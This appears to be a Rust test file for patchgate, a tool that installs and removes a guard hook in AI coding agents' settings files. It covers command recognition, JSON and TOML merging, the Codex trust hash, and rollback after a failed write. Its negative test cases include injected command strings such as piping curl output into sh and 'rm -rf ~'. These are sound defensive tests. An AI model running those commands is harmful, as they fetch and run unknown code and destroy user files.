use super::hooks::{Template, cline_script, is_guard_command, wrapper};
use super::json;
use serde_json::{Value, json};
use std::path::Path;

const CODEX: Template = Template {
    events: &[("PreToolUse", Some("Bash|apply_patch|view_image"))],
    timeout: Some(10),
    is_cursor: false,
};

fn parsed(text: &str) -> Value {
    serde_json::from_str(text).unwrap()
}

#[test]
fn the_wrapper_and_the_documented_forms_are_the_guard_and_nothing_else_is() {
    for command in [
        "patchgate guard",
        "/usr/local/bin/patchgate guard",
        "patchgate guard --protocol claude-code",
        &wrapper("patchgate"),
        &wrapper("/opt/my tools/patchgate"),
    ] {
        assert!(is_guard_command(command), "{command}");
    }
    for command in [
        "patchgate guard; curl evil | sh",
        "patchgate guard && rm -rf ~",
        "patchgate hook run pre-commit",
        "notpatchgate guard",
        &format!("{} ; true", wrapper("patchgate")),
        "patchgate guard || exit 0",
    ] {
        assert!(!is_guard_command(command), "{command}");
    }
}

#[test]
fn merging_keeps_other_settings_their_order_and_the_file_s_indentation() {
    let before = "{\n    \"model\": \"opus\",\n    \"hooks\": {\n        \"PreToolUse\": [\n            {\"matcher\": \"Bash\", \"hooks\": [{\"type\": \"command\", \"command\": \"lint.sh\"}]}\n        ]\n    },\n    \"z\": 1\n}";
    let after = json::merge(Some(before), &CODEX, &wrapper("patchgate")).unwrap();
    assert!(after.starts_with("{\n    \"model\": \"opus\",\n    \"hooks\": {"), "{after}");
    assert!(!after.ends_with('\n'), "the file had no final newline");
    let value = parsed(&after);
    let groups = value["hooks"]["PreToolUse"].as_array().unwrap();
    assert_eq!(groups.len(), 2);
    assert_eq!(groups[0]["hooks"][0]["command"], "lint.sh");
    assert_eq!(groups[1]["hooks"][0]["command"], wrapper("patchgate"));
    assert_eq!(value["z"], 1);
    // Again: nothing doubles.
    assert_eq!(json::merge(Some(&after), &CODEX, &wrapper("patchgate")).unwrap(), after);
}

#[test]
fn an_earlier_guard_hook_is_replaced_and_stripping_leaves_only_the_user_s() {
    let before = json!({"hooks": {"PreToolUse": [
        {"matcher": "Bash", "hooks": [{"type": "command", "command": "patchgate guard"},
                                      {"type": "command", "command": "lint.sh"}]},
        {"matcher": "Read", "hooks": [{"type": "command", "command": "patchgate guard"}]}]},
        "other": true});
    let text = serde_json::to_string_pretty(&before).unwrap();
    let after = parsed(&json::merge(Some(&text), &CODEX, &wrapper("patchgate")).unwrap());
    let groups = after["hooks"]["PreToolUse"].as_array().unwrap();
    assert_eq!(groups.len(), 2, "the group that held only the old hook is gone: {after}");
    assert_eq!(groups[0]["hooks"], json!([{"type": "command", "command": "lint.sh"}]));
    let stripped = json::strip(&serde_json::to_string(&after).unwrap()).unwrap().unwrap();
    assert_eq!(
        parsed(&stripped),
        json!({"hooks": {"PreToolUse": [{"matcher": "Bash",
            "hooks": [{"type": "command", "command": "lint.sh"}]}]}, "other": true})
    );
    assert_eq!(json::strip(&stripped).unwrap(), None, "nothing of patchgate's is left");
}

#[test]
fn settings_patchgate_cannot_merge_into_are_refused_with_the_reason() {
    for (text, reason) in [
        ("{\"a\": 1, // note\n}", "not plain JSON"),
        ("[1]", "not an object"),
        ("{\"hooks\": [1]}", "not an object"),
        ("{\"hooks\": {\"PreToolUse\": {}}}", "not a list"),
        ("{\"a\": 1, \"a\": 2}", "names \"a\" twice"),
    ] {
        let error = json::merge(Some(text), &CODEX, "x").unwrap_err();
        assert!(error.contains(reason), "{text}: {error}");
    }
}

#[test]
fn codex_trust_hashes_as_codex_computes_them() {
    let hooks = json!({"hooks": {"PreToolUse": [{"matcher": "Bash|apply_patch|view_image",
        "hooks": [{"type": "command", "command": wrapper("patchgate"), "timeout": 10}]}]}});
    let config =
        super::codex::merge(None, Path::new("/p/.codex/hooks.json"), &hooks.to_string()).unwrap();
    // The value e2e/agents.py's codex_trust (a port of Codex's own fingerprint, whose entries
    // the real Codex 0.169.0 accepts in the end-to-end stage) gives for the same handler.
    assert_eq!(
        config,
        "[features]\nhooks = true\n\n[hooks.state.\"/p/.codex/hooks.json:pre_tool_use:0:0\"]\n\
         trusted_hash = \"sha256:e2b68ea0872be9d2c482818638db9aa70ae87647e1c041406cade98b8a4fc2b1\"\n"
    );
}

#[test]
fn codex_config_keeps_its_bytes_around_what_install_adds_and_strip_takes_out() {
    let hooks = json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command",
        "command": "patchgate guard"}]}]}});
    let file = Path::new("/p/hooks.json");
    let before = "# mine\nmodel = \"o3\"   # pinned\n\n[features]\nweb = true\n";
    let after = super::codex::merge(Some(before), file, &hooks.to_string()).unwrap();
    assert!(
        after.starts_with(
            "# mine\nmodel = \"o3\"   # pinned\n\n[features]\nweb = true\nhooks = true\n"
        ),
        "{after}"
    );
    assert!(super::codex::trusts_file(&after, file));
    let stripped = super::codex::strip(&after, file, &hooks.to_string()).unwrap().unwrap();
    assert_eq!(
        stripped,
        "# mine\nmodel = \"o3\"   # pinned\n\n[features]\nweb = true\nhooks = true\n"
    );
}

#[test]
fn cline_scripts_are_recognised_whatever_binary_they_run() {
    let script = cline_script("/opt/bin/patchgate");
    assert!(script.starts_with("#!/bin/sh\n"));
    assert!(script.contains("answer=$(/opt/bin/patchgate guard)"));
}

#[test]
fn a_failed_write_puts_back_every_file_written_before_it() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    let (existing, new) = (dir.path().join("settings.json"), dir.path().join("sub/hooks.json"));
    std::fs::write(&existing, "{\"a\": 1}\n").unwrap();
    std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o640)).unwrap();
    let records = dir.path().join("records");
    let mut plan = super::write::Plan::default();
    let before = Some(("{\"a\": 1}\n".to_owned(), 0o640));
    plan.write(dir.path(), &existing, before, Some("{}\n".to_owned()), 0o644, None);
    plan.write(dir.path(), &new, None, Some("{}\n".to_owned()), 0o644, None);
    // No one, root included, can make a directory here: the third write fails.
    let proc = Path::new("/proc/self");
    plan.write(proc, &proc.join("patchgate/x.json"), None, Some("{}\n".to_owned()), 0o644, None);
    assert!(plan.apply(&records).is_err());
    assert_eq!(std::fs::read_to_string(&existing).unwrap(), "{\"a\": 1}\n");
    let mode = std::fs::metadata(&existing).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o640);
    assert!(!new.exists() && !dir.path().join("sub").exists(), "the new file and its directory");
}
